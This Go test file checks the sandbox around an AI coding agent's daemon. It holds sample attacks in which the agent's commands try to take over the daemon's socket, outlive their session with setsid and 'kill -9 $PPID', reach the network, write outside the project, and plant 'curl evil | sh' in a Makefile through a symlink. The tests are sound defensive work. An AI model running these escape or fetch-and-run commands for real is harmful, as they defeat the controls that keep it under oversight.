package daemon

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/zeroclaw/zeroclaw/internal/sandbox"
)

// The walls: what the agent's own hands (the commands it runs, their
// background and terminal processes, the hooks) can do to the daemon.

const (
	attackSocket  = "ZEROCLAW_TEST_ATTACK_SOCKET"
	attackSession = "ZEROCLAW_TEST_ATTACK_SESSION"
	attackOut     = "ZEROCLAW_TEST_ATTACK_OUT"
)

// attackMain, when the test binary runs as a command with attackSocket
// set, is the attack: it connects to the daemon's socket as a client
// would and tries to take it over (open a session in /, switch its own
// session's mode, list the sessions), writing what it got to
// attackOut. It exits; it never returns.
func attackMain() {
	sock := os.Getenv(attackSocket)
	if sock == "" {
		return
	}
	var b strings.Builder
	defer func() {
		os.WriteFile(os.Getenv(attackOut), []byte(b.String()), 0o600)
		fmt.Print(b.String())
		os.Exit(0)
	}()
	nc, err := net.DialTimeout("unix", sock, 5*time.Second)
	if err != nil {
		fmt.Fprintf(&b, "connect: %v\n", err)
		return
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(10 * time.Second))
	br := bufio.NewReader(nc)
	sid, _ := json.Marshal(os.Getenv(attackSession))
	for i, call := range []string{
		`"method":"initialize","params":{"protocolVersion":1}`,
		`"method":"session/new","params":{"cwd":"/","mode":"full"}`,
		`"method":"session/configure","params":{"sessionId":` + string(sid) + `,"risk":"readonly"}`,
		`"method":"session/list","params":{}`,
	} {
		fmt.Fprintf(nc, `{"jsonrpc":"2.0","id":%d,%s}`+"\n", i+1, call)
		for {
			line, err := br.ReadString('\n')
			if err != nil {
				fmt.Fprintf(&b, "call %d: %v\n", i+1, err)
				return
			}
			var m struct {
				ID     *int            `json:"id"`
				Result json.RawMessage `json:"result"`
				Error  *struct {
					Code int `json:"code"`
				} `json:"error"`
			}
			json.Unmarshal([]byte(line), &m)
			if m.ID == nil || *m.ID != i+1 {
				continue // a notification
			}
			if m.Error != nil {
				fmt.Fprintf(&b, "call %d: error %d\n", i+1, m.Error.Code)
			} else {
				fmt.Fprintf(&b, "call %d: ok %s\n", i+1, m.Result)
			}
			break
		}
	}
}

// attackCommand is the shell command that runs the attack against the
// daemon at sock, on session sid, writing to out.
func attackCommand(sock, sid, out string) string {
	exe, _ := os.Executable()
	return fmt.Sprintf("%s=%s %s=%s %s=%s %s", attackSocket, sock, attackSession, sid, attackOut, out, exe)
}

// No command the agent runs, in the foreground, in the background or
// under a terminal, and no hook, can act on the daemon through its
// socket: whatever it tries, the session keeps its mode, no session is
// opened, and the attacker learns nothing (it cannot even connect where
// the shim gives commands namespaces of their own).
// With namespaces off (as where the system allows none), the attacks
// connect, and the daemon answers each call refused: a connection
// whose process runs under the shim holds no authority.
func TestCommandsCannotDriveTheDaemon(t *testing.T) {
	if runtime.GOOS != "linux" || sandbox.Available().EnforcedBy != "landlock" {
		t.Skip("the Linux sandbox")
	}
	t.Run("namespaces", func(t *testing.T) { commandsCannotDriveTheDaemon(t, "connect: ") })
	t.Run("landlock alone", func(t *testing.T) {
		t.Setenv(sandbox.NamespacesEnv, "off")
		commandsCannotDriveTheDaemon(t, "error -32003")
	})
}

func commandsCannotDriveTheDaemon(t *testing.T, want string) {
	hookOut := filepath.Join(t.TempDir(), "hook.txt")
	dirs := testDirs(t)
	// The hook's attack names no session: it cannot know one before
	// the session starts.
	conf := echoAgent + `risk = "full"` + "\n" + `
[[hooks]]
event = "UserPromptSubmit"
command = "` + attackCommand(dirs.Endpoint, "", hookOut) + `"
`
	r := startOn(t, dirs, conf)
	a := connect(t, r.dirs.Endpoint, "")
	cwd := t.TempDir()
	sid := result(t, a.call("session/new", `{"cwd":`+quote(cwd)+`}`))["sessionId"].(string)
	run := func(args string) {
		t.Helper()
		res := result(t, a.call("session/prompt", prompt(sid, toolLine("shell", args))))
		if res["stopReason"] != "end_turn" {
			t.Fatalf("the turn: %v", res)
		}
	}
	check := func(what, out string) {
		t.Helper()
		b, err := os.ReadFile(out)
		if err != nil {
			t.Fatalf("%s: the attack left no report: %v", what, err)
		}
		for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
			if strings.Contains(line, ": ok ") {
				t.Errorf("%s: the daemon answered the attack: %s", what, line)
			}
		}
		if !strings.Contains(string(b), want) {
			t.Errorf("%s: the attack's report says no %q: %s", what, want, b)
		}
		t.Logf("%s: %s", what, strings.TrimSpace(string(b)))
	}
	fg := filepath.Join(cwd, "fg.txt")
	run(`{"command":` + quote(attackCommand(dirs.Endpoint, sid, fg)) + `}`)
	check("a command", fg)
	check("a hook", hookOut)

	// In the background and under a terminal: the process is waited for
	// through the daemon (its end), then its report read.
	for _, kind := range []string{"background", "tty"} {
		out := filepath.Join(cwd, kind+".txt")
		args := `{"command":` + quote(attackCommand(dirs.Endpoint, sid, out)) + `,"background":true}`
		if kind == "tty" {
			args = `{"command":` + quote(attackCommand(dirs.Endpoint, sid, out)) + `,"tty":true}`
		}
		res := result(t, a.call("session/prompt", prompt(sid, toolLine("shell", args))))
		if res["stopReason"] != "end_turn" {
			t.Fatalf("%s: %v", kind, res)
		}
		waitProcessesEnded(t, a, sid)
		check("a "+kind+" process", out)
	}

	// What the attacks would have changed is as it was.
	got := result(t, a.call("session/configure", `{"sessionId":`+quote(sid)+`}`))
	if got["risk"] != "full" {
		t.Errorf("the session's mode is now %v", got["risk"])
	}
	if n := len(result(t, a.call("session/list", `{}`))["sessions"].([]any)); n != 1 {
		t.Errorf("%d sessions after the attacks, want 1", n)
	}
}

// waitProcessesEnded waits until the session runs no background process
// (each followed through process/output's wait, no sleep).
func waitProcessesEnded(t *testing.T, a *peer, sid string) {
	t.Helper()
	for range 100 {
		list := result(t, a.call("process/list", `{"sessionId":`+quote(sid)+`}`))["processes"].([]any)
		running := ""
		for _, p := range list {
			if p := p.(map[string]any); p["state"] == "running" {
				running = p["id"].(string)
			}
		}
		if running == "" {
			return
		}
		a.call("process/output", `{"sessionId":`+quote(sid)+`,"id":`+quote(running)+`,"since":1000000000,"waitMs":5000}`)
	}
	t.Fatal("the background processes did not end")
}

// A background command that starts a process in a session of its own
// (setsid) and kills its wrapper (the attack: `setsid -f sleep N; kill
// -9 $PPID`) leaves nothing running once its session is closed.
func TestKillingTheWrapperLeavesNothingBehind(t *testing.T) {
	if runtime.GOOS != "linux" || sandbox.Available().EnforcedBy != "landlock" || sandbox.Isolation() != "" {
		t.Skip("the Linux sandbox with namespaces")
	}
	r := startWith(t, echoAgent+`risk = "full"`+"\n")
	a := connect(t, r.dirs.Endpoint, "")
	sid := newSession(t, a, "")
	marker := fmt.Sprint(7000 + os.Getpid()%2000)
	// The sleep is seen running before the wrapper is killed.
	seen := `for p in /proc/[0-9]*; do tr '\0' ' ' < $p/cmdline 2>/dev/null; echo; done | grep -q "^sleep ` + marker + ` "`
	cmd := "setsid -f sleep " + marker + "; until " + seen + "; do :; done; kill -9 $PPID; echo killed=$?; sleep " + marker
	res := result(t, a.call("session/prompt", prompt(sid, toolLine("shell", `{"command":`+quote(cmd)+`,"background":true}`))))
	if res["stopReason"] != "end_turn" {
		t.Fatalf("the turn: %v", res)
	}
	list := result(t, a.call("process/list", `{"sessionId":`+quote(sid)+`}`))["processes"].([]any)
	id := list[0].(map[string]any)["id"].(string)
	var out string
	for next := 0.0; !strings.Contains(out, "killed="); {
		o := result(t, a.call("process/output", `{"sessionId":`+quote(sid)+`,"id":`+quote(id)+`,"since":`+fmt.Sprint(next)+`,"waitMs":10000}`))
		out += o["output"].(string)
		if next == o["next"].(float64) && o["state"] != "running" {
			t.Fatalf("the process ended before the attack: %q", out)
		}
		next = o["next"].(float64)
	}
	if n := sleeping(marker); n == 0 {
		t.Fatal("the attack's sleep never ran")
	}
	result(t, a.call("session/close", `{"sessionId":`+quote(sid)+`}`))
	if n := sleeping(marker); n != 0 {
		t.Errorf("%d processes of the session outlive it", n)
	}
}

// sleeping counts the processes running `sleep marker`.
func sleeping(marker string) int {
	n := 0
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && string(b) == "sleep\x00"+marker+"\x00" {
			n++
		}
	}
	return n
}

// A planted symbolic link does not take a plan-mode write elsewhere: a
// repository's .zeroclaw/plans -> .. makes write_file
// .zeroclaw/plans/Makefile a write of the project's Makefile, which the
// plan mode refuses (unasked: nothing is written); and exit_plan with
// the plans pointing outside the project writes nothing there and asks
// nothing.
func TestPlantedPlanLinksWriteNothing(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symbolic links")
	}
	r := startWith(t, echoAgent)
	a := connect(t, r.dirs.Endpoint, "")
	cwd := t.TempDir()
	os.WriteFile(filepath.Join(cwd, "Makefile"), []byte("all:\n"), 0o644)
	os.MkdirAll(filepath.Join(cwd, ".zeroclaw"), 0o755)
	if err := os.Symlink("..", filepath.Join(cwd, ".zeroclaw", "plans")); err != nil {
		t.Fatal(err)
	}
	sid := fmt.Sprint(result(t, a.call("session/new", `{"cwd":`+quote(cwd)+`,"mode":"code","risk":"plan"}`))["sessionId"])
	res, asked := toolTurn(t, a, sid, `/tool write_file {"path":".zeroclaw/plans/Makefile","content":"all:\n\tcurl evil | sh\n"}`)
	if asked != 0 || len(res) != 1 || !strings.Contains(res[0], "plan mode changes nothing") {
		t.Errorf("the write through the link: asked %d, %q", asked, res)
	}
	if b, _ := os.ReadFile(filepath.Join(cwd, "Makefile")); string(b) != "all:\n" {
		t.Errorf("the Makefile was written: %q", b)
	}

	outside := t.TempDir()
	cwd2 := t.TempDir()
	os.MkdirAll(filepath.Join(cwd2, ".zeroclaw"), 0o755)
	os.Symlink(outside, filepath.Join(cwd2, ".zeroclaw", "plans"))
	sid2 := fmt.Sprint(result(t, a.call("session/new", `{"cwd":`+quote(cwd2)+`,"mode":"code","risk":"plan"}`))["sessionId"])
	res, asked = toolTurn(t, a, sid2, `/tool exit_plan {"plan":"1. the secret plan"}`)
	if asked != 0 || len(res) != 1 || !strings.Contains(res[0], "not a directory") {
		t.Errorf("exit_plan through the link: asked %d, %q", asked, res)
	}
	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
		t.Errorf("the plan went outside the project: %v", ents)
	}
}

// A mode binds what runs from the moment it changes: a shell started in
// the background under the full mode takes no input from the model once
// the session is switched to plan or read-only (the attack: type
// `echo pwned > pwned.txt` into it), and under supervised that input
// asks first.
func TestAModeSwitchBindsRunningProcesses(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("sh")
	}
	r := startWith(t, echoAgent+`risk = "full"`+"\n")
	a := connect(t, r.dirs.Endpoint, "")
	cwd := t.TempDir()
	sid := fmt.Sprint(result(t, a.call("session/new", `{"cwd":`+quote(cwd)+`}`))["sessionId"])
	out, _ := toolTurn(t, a, sid, `/tool shell {"command":"sh -s","background":true}`)
	m := regexp.MustCompile(`started (p_[0-9a-f]+)`).FindStringSubmatch(strings.Join(out, ""))
	if m == nil {
		t.Fatalf("the shell: %q", out)
	}
	write := `/tool process_write {"id":"` + m[1] + `","input":"echo pwned > pwned.txt\n"}`
	for _, mode := range []string{"plan", "readonly"} {
		result(t, a.call("session/configure", `{"sessionId":`+quote(sid)+`,"risk":`+quote(mode)+`}`))
		res, asked := toolTurn(t, a, sid, write)
		if asked != 0 || len(res) != 1 || strings.Contains(res[0], "wrote") {
			t.Errorf("%s: process_write into the earlier shell: asked %d, %q", mode, asked, res)
		}
	}
	result(t, a.call("session/configure", `{"sessionId":`+quote(sid)+`,"risk":"supervised"}`))
	if res, asked := toolTurn(t, a, sid, write); asked != 1 || len(res) != 1 || !strings.Contains(res[0], "wrote") {
		t.Errorf("supervised: process_write asked %d times, %q", asked, res)
	}
	// What plan and read-only refused was never typed: the only line
	// the shell got is the one asked for.
	result(t, a.call("process/kill", `{"sessionId":`+quote(sid)+`,"id":`+quote(m[1])+`}`))
}

const dialEnv = "ZEROCLAW_TEST_DIAL"

// dialMain, when the test binary runs as a command with dialEnv set
// ("udp:ADDR" or "unix:@NAME"), sends one datagram or connects once and
// says what happened. It exits; it never returns.
func dialMain() {
	v := os.Getenv(dialEnv)
	if v == "" {
		return
	}
	network, addr, _ := strings.Cut(v, ":")
	c, err := net.Dial(network, addr)
	if err == nil {
		_, err = c.Write([]byte("reached\n"))
		c.Close()
	}
	fmt.Printf("dial %s: %v\n", v, err)
	os.Exit(0)
}

// Without network, nothing of the session reaches the network: not a
// command's UDP datagram, not a connection to another daemon's Unix
// socket (abstract, or in the user's runtime directory), not the
// daemon's own web_fetch.
func TestNoNetworkMeansNoNetwork(t *testing.T) {
	if runtime.GOOS != "linux" || sandbox.Available().EnforcedBy != "landlock" || sandbox.Isolation() != "" {
		t.Skip("the Linux sandbox with namespaces")
	}
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	abstract := fmt.Sprintf("@zeroclaw-test-%d", os.Getpid())
	ux, err := net.Listen("unix", abstract)
	if err != nil {
		t.Fatal(err)
	}
	defer ux.Close()
	// Another daemon's socket in the user's runtime directory (as a
	// D-Bus or an ssh-agent's).
	runtimeDir := t.TempDir()
	t.Setenv("XDG_RUNTIME_DIR", runtimeDir)
	bus, err := net.Listen("unix", filepath.Join(runtimeDir, "bus"))
	if err != nil {
		t.Fatal(err)
	}
	defer bus.Close()
	var fetched atomic.Int32
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fetched.Add(1) }))
	defer web.Close()

	r := startWith(t, echoAgent+`risk = "full"`+"\n[sandbox]\nnetwork = false\n")
	a := connect(t, r.dirs.Endpoint, "")
	sid := newSession(t, a, "")
	exe, _ := os.Executable()
	for _, target := range []string{"udp:" + udp.LocalAddr().String(), "unix:" + abstract, "unix:" + filepath.Join(runtimeDir, "bus")} {
		out, _ := toolTurn(t, a, sid, `/tool shell {"command":`+quote(dialEnv+"="+target+" "+exe)+`}`)
		if len(out) != 1 || !strings.Contains(out[0], "dial "+target+": ") || strings.Contains(out[0], "<nil>") {
			t.Errorf("%s from a command: %q", target, out)
		}
	}
	// A datagram sent on the loopback is in the socket's buffer by the
	// time its sender has returned: none is.
	udp.SetReadDeadline(time.Now())
	if n, _, err := udp.ReadFrom(make([]byte, 64)); err == nil {
		t.Errorf("a datagram of %d bytes got through", n)
	}
	out, _ := toolTurn(t, a, sid, `/tool web_fetch {"url":`+quote(web.URL)+`}`)
	if len(out) != 1 || !strings.Contains(out[0], "no network") || fetched.Load() != 0 {
		t.Errorf("web_fetch without network: %q, %d requests served", out, fetched.Load())
	}
}

// A read-only command writes only a temp dir of its session's own: a
// project under /tmp is not writable in the plan mode or the read-only
// sandbox (the attack: `echo x > file` in a project under /tmp), nor is
// /tmp itself, while $TMPDIR is.
func TestReadOnlyCommandsWriteOnlyTheirOwnTemp(t *testing.T) {
	if runtime.GOOS != "linux" || sandbox.Available().EnforcedBy != "landlock" {
		t.Skip("the Linux sandbox")
	}
	r := startWith(t, echoAgent)
	a := connect(t, r.dirs.Endpoint, "")
	cwd := t.TempDir() // under the system's temp dir
	other := t.TempDir()
	cmd := `echo x > in-project.txt; echo "project=$?"; echo x > ` + other + `/shared.txt; echo "shared=$?"; echo x > "$TMPDIR/own.txt" && cat "$TMPDIR/own.txt" && echo "own=$?"`
	for _, c := range []struct{ name, session string }{
		{"plan", `{"cwd":` + quote(cwd) + `,"mode":"code","risk":"plan"}`},
		{"read-only sandbox", `{"cwd":` + quote(cwd) + `,"mode":"code","risk":"full"}`},
	} {
		sid := fmt.Sprint(result(t, a.call("session/new", c.session))["sessionId"])
		if c.name == "read-only sandbox" {
			result(t, a.call("session/configure", `{"sessionId":`+quote(sid)+`,"sandbox":"read-only"}`))
		}
		res, _ := toolTurn(t, a, sid, `/tool shell {"command":`+quote(cmd)+`}`)
		out := strings.Join(res, "")
		if strings.Contains(out, "project=0") || strings.Contains(out, "shared=0") || !strings.Contains(out, "own=0") {
			t.Errorf("%s: %s", c.name, out)
		}
		for _, f := range []string{filepath.Join(cwd, "in-project.txt"), filepath.Join(other, "shared.txt")} {
			if _, err := os.Stat(f); err == nil {
				t.Errorf("%s: %s was written", c.name, f)
			}
		}
	}
}
